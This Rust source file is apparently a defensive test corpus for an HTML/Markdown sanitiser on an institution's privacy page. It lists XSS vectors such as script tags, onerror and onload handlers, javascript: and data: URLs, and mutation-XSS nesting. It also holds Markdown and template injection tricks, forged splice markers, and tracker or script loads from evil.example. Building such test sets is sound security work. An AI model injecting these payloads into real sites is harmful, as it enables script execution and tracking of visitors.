//! The adversarial corpus: what an editor (or whoever got hold of an editor's account) might
//! write into any text of an institution, to put active content or a tracker on a state
//! institution's privacy page. Classic sanitiser bypasses, splice-marker forgeries, Markdown
//! link and image tricks, template syntax and encodings.

/// Vectors that are combined with the wrappers below.
const VECTORS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<script src=\"https://evil.example/x.js\"></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/track.gif\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<video poster=\"https://evil.example/p.png\"><source src=\"https://evil.example/v.mp4\"></video>",
    "<audio src=\"https://evil.example/a.mp3\" autoplay>",
    "<input type=image src=\"https://evil.example/i.png\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(https://evil.example/t.gif)\">x</p>",
    "<form action=\"https://evil.example\"><button>x</button></form>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"https://a.lv\" onclick=\"alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<x onmouseover=alert(1)>x</x>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
];

/// Markdown and template tricks, and forged splice markers, each a payload of its own.
const OTHERS: [&str; 30] = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.gif)",
    "![x](//evil.example/track.gif)",
    "![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/t.gif)](https://a.lv)",
    "![x][img]\n\n[img]: https://evil.example/t.gif",
    "{{ __tera_context }}",
    "{% include \"page.html\" %}",
    "{{ institution.name | safe }}",
    "\u{F8F0}0\u{F8F1}",
    "https://x.lv/\u{F8F0}1\u{F8F1}\u{F8F0}2\u{F8F1}",
    "<privatums-slot-00000000000000000000000000000000-0>",
    "\u{202E}gpj.exe",
    "\u{0}\u{1b}[2J",
    "a\u{2028}b\u{2029}c",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "> <iframe src=https://evil.example>",
    "- <svg onload=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

/// Every payload: each vector bare, split over lines, upper-cased and after text, and the
/// others.
pub fn all() -> Vec<String> {
    let mut payloads: Vec<String> = Vec::new();
    for vector in VECTORS {
        payloads.push(vector.to_owned());
        payloads.push(vector.replacen(' ', "\n", 1));
        payloads.push(vector.to_uppercase());
    }
    payloads.extend(OTHERS.iter().map(|s| (*s).to_owned()));
    payloads.sort();
    payloads.dedup();
    payloads
}
